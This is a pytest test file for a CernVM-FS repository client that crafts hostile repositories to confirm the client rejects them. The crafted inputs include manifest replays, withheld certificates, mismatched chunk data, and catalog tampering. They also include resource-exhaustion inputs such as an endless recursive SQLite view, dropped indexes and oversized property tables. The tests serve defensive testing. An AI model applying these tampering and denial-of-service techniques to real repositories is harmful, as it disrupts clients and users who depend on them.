        with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub], cache_dir=cache) as r:
            assert r.manifest is not None
            return r.manifest.revision

    with hostile.Editor(repo) as ed:  # A: the floor before the killed run, the first certificate
        ed.sign_manifest(revision=m0.revision + 1, timestamp=m0.timestamp + 10)
    assert revision() == m0.revision + 1
    cert = hostile.rotate_certificate(repo)
    with hostile.Editor(repo) as ed:  # B: the rotated certificate, listed only by the new whitelist
        ed.sign_manifest(revision=m0.revision + 2, timestamp=m0.timestamp + 20, certificate_hash=cert)
    run_killed(KILLED_OPEN, repo.stratum, repo.fqrn, repo.pub, cache, kill_at)

    for name, data in first.items():  # a replay of the first revision, genuinely signed
        (repo.stratum / name).write_bytes(data)
    for top in (repo.stratum, cache / repo.fqrn):  # the rotated certificate withheld
        (top / object_path(cert, SUFFIX_CERTIFICATE)).unlink(missing_ok=True)
    with pytest.raises(IntegrityError, match=rf"revision {m0.revision} published at .* behind revision "):
        revision()


@pytest.mark.parametrize(
    ("bulk", "problem"),
    [
        ("same", None),
        ("other", r"catalog /: /chunked: its chunks, in offset order, are not the bytes of its bulk object"),
        ("absent", None),
    ],
)
def test_a_chunked_file_s_bulk_object_holds_its_chunks_bytes(
    hostile_base: hostile.Repo, tmp_path: Path, bulk: str, problem: str | None
) -> None:
    """A bulk hash on a chunked file (the server's legacy whole-file object) names an object whose
    bytes must be the chunks' in order; one that is absent is counted, not a problem (replicas
    leave it out). Compared by streaming digests: the chunks are never joined in memory."""
    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub]) as r:
        data = r.read_bytes("/chunked")
    with hostile.Editor(repo) as ed:
        if bulk == "absent":
            name = hashlib.sha1(b"never stored").hexdigest()
        else:  # "other": as long, one byte changed
            name = ed.put(data if bulk == "same" else data[:-1] + bytes([data[-1] ^ 1]))
        hostile.set_column(ed.catalog(), "/chunked", hash=bytes.fromhex(name))
    with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub]) as r:
        assert r.stat("/chunked").content_hash == name and r.stat("/chunked").is_chunked
        report = r.verify()
    if problem is None:
        assert report.ok, report.errors
    else:
        assert report.problems == 1 and re.search(problem, report.errors[0]), report.errors
    assert report.bulk_absent == (bulk == "absent")
    if problem is not None:  # the CLI: the problem line, then the one error line, exit 6
        m = hostile.run_measured([*hostile.cli(), "cvmfs", "verify", *repo.cli_args()], timeout=TIMEOUT)
        assert m.returncode == 6 and "Traceback" not in m.stderr and re.search(problem, m.stderr), m.stderr


def test_a_mount_point_without_its_nested_catalog_is_an_error(
    hostile_base: hostile.Repo, tmp_path: Path
) -> None:
    """pr17c finding 4: /nested flagged as a mount point, its reference deleted: it was listed from
    the parent catalog, empty (5 entries lost, verify OK, exit 0); now every reader says so."""
    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    with hostile.Editor(repo) as ed:
        ed.catalog("").execute("DELETE FROM nested_catalogs WHERE path='/nested'")
    with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub]) as r:
        with pytest.raises(CvmfsError, match=r"/nested: marked as a nested catalog's mount point, but"):
            r.listdir("/nested")
        assert not r.verify().ok
    m = hostile.run_measured([*hostile.cli(), "cvmfs", "ls", *repo.cli_args(), "/", "-R"], timeout=TIMEOUT)
    assert m.returncode != 0 and "Traceback" not in m.stderr, m.stderr


def test_verify_reports_rows_below_a_non_directory(hostile_base: hostile.Repo, tmp_path: Path) -> None:
    """lf18: rows whose parent is a symlink, a regular file or no row at all are never listed, so
    verify's walk never checked them, yet a path lookup finds them (``cat /dir/link/x`` read an
    unchecked object): each is a problem naming its catalog and path."""
    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    with hostile.Editor(repo) as ed:
        db = ed.catalog()
        hostile.add_row(db, "/dir/link", "below-link", mode=0o100644, size=0)
        hostile.add_row(db, "/dir/file", "below-file", mode=0o40755)
        hostile.add_row(db, "/no/such/dir", "orphan", mode=0o100644, size=0)
        inner = ed.catalog("/nested/inner")
        hostile.add_row(inner, "/nested/inner/x", "deeper", mode=0o100644, size=0)
    with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub]) as r:
        assert r.stat("/dir/link/below-link").name == "below-link"  # found by its path
        report = r.verify()
        root = r.root_hash
    assert report.problems == 4, report.errors
    text = "\n".join(report.errors)
    assert f"catalog {root}C: /dir/link/below-link: its parent /dir/link is a symbolic link" in text
    assert f"catalog {root}C: /dir/file/below-file: its parent /dir/file is a regular file" in text
    assert f"catalog {root}C: entry 'orphan': its parent is not in the catalog" in text
    assert re.search(
        r"C at /nested/inner: /nested/inner/x/deeper: its parent /nested/inner/x is a regular", text
    )
    m = hostile.run_measured([*hostile.cli(), "cvmfs", "verify", *repo.cli_args()], timeout=TIMEOUT)
    assert m.returncode == 6 and "Traceback" not in m.stderr, m.stderr
    assert "/dir/link/below-link: its parent /dir/link is a symbolic link" in m.stderr, m.stderr


def test_verify_reports_a_tag_whose_root_catalog_is_missing(
    hostile_base: hostile.Repo, tmp_path: Path
) -> None:
    """lf18: a tag of the history naming a root catalog the repository lacks cannot be mounted
    (``--tag``); verify checked only the trunk and said OK."""
    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub]) as r:
        assert r.verify().tags == 2
        old = {t.name: t for t in r.tags()}["trunk-previous"]
    (repo.stratum / "data" / old.root_hash[:2] / (old.root_hash[2:] + "C")).unlink()
    with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub]) as r:
        report = r.verify()
    assert report.problems == 1, report.errors
    assert report.errors[0] == (
        f"{repo.fqrn}: tag 'trunk-previous' (revision 1): its root catalog {old.root_hash}C "
        "is not in the repository"
    )
    m = hostile.run_measured([*hostile.cli(), "cvmfs", "verify", *repo.cli_args()], timeout=TIMEOUT)
    assert m.returncode == 6 and "Traceback" not in m.stderr, m.stderr
    assert "tag 'trunk-previous'" in m.stderr, m.stderr


@pytest.mark.parametrize("table", ["catalog", "properties", "nested_catalogs"])
def test_a_catalog_table_that_is_a_view_is_refused(
    hostile_base: hostile.Repo, tmp_path: Path, table: str
) -> None:
    """pr20a finding 8: a view runs the catalog writer's SQL on every read; one over an endless
    recursive query hung `cvmfs ls` for ever. Here a harmless view: refused all the same, before a
    read (the endless one runs below, bounded by the subprocess timeout)."""
    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    with hostile.Editor(repo) as ed:
        db = ed.catalog()
        db.execute(f"ALTER TABLE {table} RENAME TO real_{table}")
        db.execute(f"CREATE VIEW {table} AS SELECT * FROM real_{table}")
    with pytest.raises(CvmfsError, match=rf"C: '{table}' is a view, not a table"):
        open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub])
    endless = hostile.copy_repo(hostile_base, tmp_path / "endless")
    with hostile.Editor(endless) as ed:
        db = ed.catalog()
        cols = ", ".join(f"r.{row[1]}" for row in db.execute(f"PRAGMA table_info({table})"))
        db.execute(f"ALTER TABLE {table} RENAME TO real_{table}")
        db.execute(
            f"CREATE VIEW {table} AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) "
            f"SELECT {cols} FROM c, real_{table} r"
        )
    argv = ["cvmfs", "ls", str(endless.stratum), "/", "--key", str(endless.pub), "--fqrn", endless.fqrn]
    m = hostile.run_measured([*hostile.cli(), *argv], timeout=TIMEOUT)
    assert m.returncode == 5 and f"'{table}' is a view" in m.stderr and "Traceback" not in m.stderr


def test_a_history_table_that_is_a_view_is_refused(tmp_path: Path) -> None:
    from cernvm_build.cvmfs.history import History

    path = tmp_path / "history.db"
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE properties (key TEXT, value TEXT)")
    db.execute("CREATE TABLE real_tags (name TEXT, hash TEXT, revision INTEGER, timestamp INTEGER)")
    db.execute("CREATE VIEW tags AS SELECT * FROM real_tags")
    db.commit()
    db.close()
    with pytest.raises(CvmfsError, match=r"^h: history database: 'tags' is a view, not a table"):
        History(path, where="h")


@pytest.mark.parametrize("index", ["pk", "parent", "chunks", "partial"])
def test_a_catalog_without_the_indexes_of_its_lookups_is_refused(
    hostile_base: hostile.Repo, tmp_path: Path, index: str
) -> None:
    """pr20a finding 9: without them every lookup and listing reads the whole table; `ls -R` of
    20,000 directories took 31.6 s instead of 1.9 s, and grows with the square of the count."""
    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    table = "chunks" if index == "chunks" else "catalog"
    with hostile.Editor(repo) as ed:
        db = ed.catalog()
        if index in ("parent", "partial"):
            db.execute("DROP INDEX idx_catalog_parent")
            if index == "partial":  # an index no query can use
                db.execute("CREATE INDEX idx_catalog_parent ON catalog (parent_1, parent_2) WHERE 0")
        else:  # the primary key's: the table again, without it
            db.execute(f"CREATE TABLE bare AS SELECT * FROM {table}")
            db.execute(f"DROP TABLE {table}")
            db.execute(f"ALTER TABLE bare RENAME TO {table}")
            if table == "catalog":
                db.execute("CREATE INDEX idx_catalog_parent ON catalog (parent_1, parent_2)")
    columns = "parent_1, parent_2" if index in ("parent", "partial") else "md5path_1, md5path_2"
    with pytest.raises(CvmfsError, match=rf"C: table {table} has no index on \({columns}\)"):
        open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub])


def test_a_catalog_or_history_with_too_many_properties_is_refused(
    hostile_base: hostile.Repo, tmp_path: Path
) -> None:
    """pr20a finding 10: the properties are read whole on open; 3 million rows (a 32 MB catalog
    object) took `cvmfs ls` from 26 MB to 1 GB of RSS."""
    from cernvm_build.cvmfs.history import History
    from cernvm_build.cvmfs.limits import MAX_PROPERTIES

    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    rows = [(f"k{i}", "v") for i in range(MAX_PROPERTIES + 1)]
    with hostile.Editor(repo) as ed:
        ed.catalog().executemany("INSERT INTO properties VALUES (?, ?)", rows)
    with pytest.raises(CvmfsError, match=rf"C: more than {MAX_PROPERTIES} properties"):
        open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub])
    path = tmp_path / "history.db"
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE properties (key TEXT PRIMARY KEY, value TEXT)")
    db.executemany("INSERT INTO properties VALUES (?, ?)", rows)
    db.commit()
    db.close()
    with pytest.raises(CvmfsError, match=rf"^h: history database: more than {MAX_PROPERTIES} properties"):
        History(path, where="h")


def test_a_history_with_too_many_tags_or_a_huge_value_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """pr20a finding 11: every tag is read for `tag list` and verify: a million took 2.2 GB of RSS,
    a 200 MB description 600 MB (and was printed)."""
    from cernvm_build.cvmfs import history
    from cernvm_build.cvmfs.history import History

    path = tmp_path / "history.db"
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE properties (key TEXT PRIMARY KEY, value TEXT)")
    db.execute(
        "CREATE TABLE tags (name TEXT, hash TEXT, revision INTEGER, timestamp INTEGER, channel INTEGER,"
        " description TEXT, size INTEGER, branch TEXT)"
    )
    row = ("h" * 40, 1, 1, 0, "", 0, "")
    db.executemany("INSERT INTO tags VALUES (?, ?, ?, ?, ?, ?, ?, ?)", [(f"t{i}", *row) for i in range(4)])
    db.commit()
    monkeypatch.setattr(history, "MAX_TAGS", 3)
    with pytest.raises(CvmfsError, match=r"^h: history database holds more than 3 tags"):
        History(path, where="h").tags()
    monkeypatch.setattr(history, "MAX_TAGS", 4)
    assert len(History(path, where="h").tags()) == 4
    db.execute("UPDATE tags SET description = ? WHERE name = 't0'", ("d" * (history.MAX_TAG_TEXT + 1),))
    db.commit()
    db.close()
    with pytest.raises(CvmfsError, match=r"^h: history database: a value in it is longer than"):
        History(path, where="h").tags()


def test_a_tag_looked_up_by_name_reads_one_row(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A hostile history may hold many rows of one name (the server's schema makes names unique):
    ``by_name`` read them all before the check (more than MAX_TAGS: refused, after the memory)."""
    from cernvm_build.cvmfs import history
    from cernvm_build.cvmfs.history import History

    path = tmp_path / "history.db"
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE properties (key TEXT PRIMARY KEY, value TEXT)")
    db.execute(
        "CREATE TABLE tags (name TEXT, hash TEXT, revision INTEGER, timestamp INTEGER, channel INTEGER,"
        " description TEXT, size INTEGER, branch TEXT)"
    )
    db.executemany("INSERT INTO tags VALUES ('t', ?, ?, 0, 0, '', 0, '')", [("h" * 40, i) for i in range(4)])
    db.commit()
    db.close()
    monkeypatch.setattr(history, "MAX_TAGS", 3)
    h = History(path, where="h")
    tag = h.by_name("t")
    assert tag is not None and tag.name == "t"
    assert h.by_date(0) is not None
    h.close()


def test_the_statistics_read_are_bounded(hostile_base: hostile.Repo, tmp_path: Path) -> None:
    """pr20a finding 12: `cvmfs info` read a catalog's statistics table whole, however long."""
    from cernvm_build.cvmfs.limits import MAX_PROPERTIES

    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    with hostile.Editor(repo) as ed:
        ed.catalog().executemany(
            "INSERT INTO statistics VALUES (?, ?)", ((f"c{i}", i) for i in range(MAX_PROPERTIES + 5))
        )
    with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub]) as r:
        assert 0 < len(r.statistics()) <= MAX_PROPERTIES


def test_a_set_older_than_the_three_files_an_older_version_wrote_is_stale(
    hostile_base: hostile.Repo, tmp_path: Path
) -> None:
    """A cache written by this version (the set, at revision N), then by an older one (the three
    files, at N+1: it knows no set), then by this one again read the stale set: the floor was N (a
    replay of N was taken) and the offline copy N, until the next online open. The set is ignored
    when the three files were written after it; the next online open makes them the set again."""
    from cernvm_build.cvmfs.cache import ObjectCache
    from cernvm_build.cvmfs.repository import SIGNED_SET, kept_signed
    from cernvm_build.errors import IntegrityError

    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    cache, older = tmp_path / "cache", tmp_path / "older"

    def revision(where: Path = cache) -> int:
        with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub], cache_dir=where) as r:
            assert r.manifest is not None
            return r.manifest.revision

    first = (repo.stratum / ".cvmfspublished").read_bytes()
    m0 = manifest.parse(manifest.split_signed(first, "m").body)
    assert revision() == m0.revision  # this version: the set at N
    top = cache / repo.fqrn
    stale = (top / SIGNED_SET).read_bytes()
    with hostile.Editor(repo) as ed:
        ed.sign_manifest(revision=m0.revision + 1, timestamp=m0.timestamp + 10)
    latest = (repo.stratum / ".cvmfspublished").read_bytes()
    assert revision(older) == m0.revision + 1
    for name, data in kept_signed(ObjectCache(older / repo.fqrn, repo=repo.fqrn)).items():
        (top / name).write_bytes(data)  # the older version keeps N+1 as three files, after the set
    assert (top / SIGNED_SET).read_bytes() == stale

    (repo.stratum / ".cvmfspublished").write_bytes(first)  # a replay of N: behind the floor N+1
    with pytest.raises(IntegrityError, match=rf"revision {m0.revision} published at .* behind revision "):
        revision()
    (repo.stratum / ".cvmfspublished").unlink()  # no server answer: the offline copy is N+1
    assert revision() == m0.revision + 1
    (repo.stratum / ".cvmfspublished").write_bytes(latest)
    assert revision() == m0.revision + 1  # online: N+1 is the set again, the three files go
    assert (top / SIGNED_SET).read_bytes() != stale
    assert not any((top / n).exists() for n in (".cvmfspublished", ".cvmfswhitelist", ".cvmfscertificate"))


def test_a_cache_of_the_three_older_signed_files_keeps_its_floor_and_offline_copy(
    hostile_base: hostile.Repo, tmp_path: Path
) -> None:
    """A cache (or a seed) written before ``.cvmfssigned`` holds ``.cvmfspublished``,
    ``.cvmfswhitelist`` and ``.cvmfscertificate``: they are still the rollback floor and the offline
    copy, and the next online open moves them into the one set."""
    from cernvm_build.cvmfs.cache import ObjectCache
    from cernvm_build.cvmfs.repository import SIGNED_SET, kept_signed
    from cernvm_build.errors import IntegrityError

    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    cache = tmp_path / "cache"

    def revision() -> int:
        with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub], cache_dir=cache) as r:
            assert r.manifest is not None
            return r.manifest.revision

    first = (repo.stratum / ".cvmfspublished").read_bytes()
    m0 = manifest.parse(manifest.split_signed(first, "m").body)
    with hostile.Editor(repo) as ed:
        ed.sign_manifest(revision=m0.revision + 1, timestamp=m0.timestamp + 10)
    latest = (repo.stratum / ".cvmfspublished").read_bytes()
    assert revision() == m0.revision + 1
    top = cache / repo.fqrn
    kept = kept_signed(ObjectCache(top, repo=repo.fqrn))
    assert set(kept) == {".cvmfspublished", ".cvmfswhitelist", ".cvmfscertificate"}
    for name, data in kept.items():  # the older layout
        (top / name).write_bytes(data)
    (top / SIGNED_SET).unlink()

    (repo.stratum / ".cvmfspublished").write_bytes(first)  # a replay: the older files are the floor
    with pytest.raises(IntegrityError, match=rf"revision {m0.revision} published at .* behind revision "):
        revision()
    (repo.stratum / ".cvmfspublished").unlink()  # no server answer: the older files are the copy
    assert revision() == m0.revision + 1
    assert not (top / SIGNED_SET).exists() and (top / ".cvmfspublished").exists()
    (repo.stratum / ".cvmfspublished").write_bytes(latest)
    assert revision() == m0.revision + 1  # online: moved into the set
    assert (top / SIGNED_SET).exists()
    assert not any((top / n).exists() for n in (".cvmfspublished", ".cvmfswhitelist", ".cvmfscertificate"))
    assert kept_signed(ObjectCache(top, repo=repo.fqrn)) == kept
